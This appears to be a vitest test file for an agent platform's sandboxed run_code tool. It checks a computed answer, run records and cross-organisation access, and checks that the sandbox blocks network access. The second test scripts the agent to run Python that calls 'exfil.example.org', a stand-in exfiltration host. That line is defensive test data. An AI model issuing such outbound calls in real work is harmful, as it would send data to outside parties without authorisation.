import { afterAll, beforeAll, expect, test } from 'vitest'
import { closeServerSandbox } from '#sandbox/server/choose.ts'
import { delegate } from './features/delegations/delegate.ts'
import { getRun, listRuns } from './features/runs/read-runs.ts'
import { giveScript, untilState } from './testing/engine.ts'
import { makeMember, makeOrg, makeWorkspaces } from './testing/factories.ts'
import { openTestDb, type TestDb } from './testing/test-db.ts'
import { whyNoPrograms } from './testing/why-no-programs.ts'
import { startWorker, type Worker } from './worker.ts'

const why = await whyNoPrograms()
if (why) process.stdout.write(`skipped: running code: ${why}\n`)

let database: TestDb
let worker: Worker
beforeAll(async () => {
  database = await openTestDb()
  worker = startWorker({ db: database.db })
})
afterAll(async () => {
  await worker.stop()
  await database.close()
  closeServerSandbox()
})

test.skipIf(why !== undefined)('an agent computes instead of guessing, and answers with what came out', async () => {
  const org = await makeOrg(database.db)
  const { Clerk } = await makeWorkspaces(org, { Clerk: {} })
  if (!Clerk) throw new Error('there is no clerk')
  const args = {
    ...{ language: 'python', code: 'print(sum(range(int(open("to.txt").read()) + 1)))' },
    ...{ files: { 'to.txt': '100' }, stdin: 'unread' },
  }
  await giveScript(org, [
    {
      workspace: 'Clerk',
      when: { always: true },
      turns: [{ call: [{ tool: 'run_code', args }] }, { answer: 'It is {results}' }],
    },
  ])
  const { delegationId } = await delegate(org, { workspaceId: Clerk, task: 'Add 1 to 100' })
  const { answer } = await untilState(org, delegationId, ['completed'])
  expect(answer).toContain('"stdout":"5050\\n"')
  const [run] = await listRuns(org, { of: 'agents', limit: 5 })
  expect(run).toMatchObject({ by: 'Clerk', outcome: 'completed', language: 'python', isShared: true })
  if (run?.ref.kind !== 'agent') throw new Error('it is not the agent’s')
  expect(run.ref.delegationId).toBe(delegationId)
  const { record, ...again } = await getRun(org, run.ref)
  expect(again).toMatchObject({ ...args, path: null, origin: { kind: 'step', delegationId } })
  expect(record?.output).toEqual([{ stream: 'stdout', text: '5050\n' }])
  expect(await getRun(await makeMember(org, 'viewer'), run.ref)).toMatchObject({ by: 'Clerk' })
  const stranger = await makeOrg(database.db)
  await expect(getRun(stranger, run.ref)).rejects.toMatchObject({ code: 'not-found' })
  expect(await listRuns(stranger, { of: 'agents', limit: 5 })).toEqual([])
})

test.skipIf(why !== undefined)('whom the program of an agent asked for in vain stands in its record', async () => {
  const org = await makeOrg(database.db)
  const { Clerk } = await makeWorkspaces(org, { Clerk: {} })
  if (!Clerk) throw new Error('there is no clerk')
  const code = `import urllib.request\nurllib.request.urlopen('https://exfil.example.org/?q=1')`
  const call = [{ tool: 'run_code', args: { language: 'python', code } }]
  await giveScript(org, [
    { workspace: 'Clerk', when: { always: true }, turns: [{ call }, { answer: 'It is {results}' }] },
  ])
  const { delegationId } = await delegate(org, { workspaceId: Clerk, task: 'Send it' })
  await untilState(org, delegationId, ['completed'])
  const [run] = await listRuns(org, { of: 'agents', limit: 5 })
  if (!run) throw new Error('there is no run')
  const { record } = await getRun(org, run.ref)
  expect(record?.outcome).toBe('failed')
  expect(record?.detail).toMatch(/^URLError[\s\S]*\nexfil\.example\.org:443 refused: this sandbox has no network$/)
})
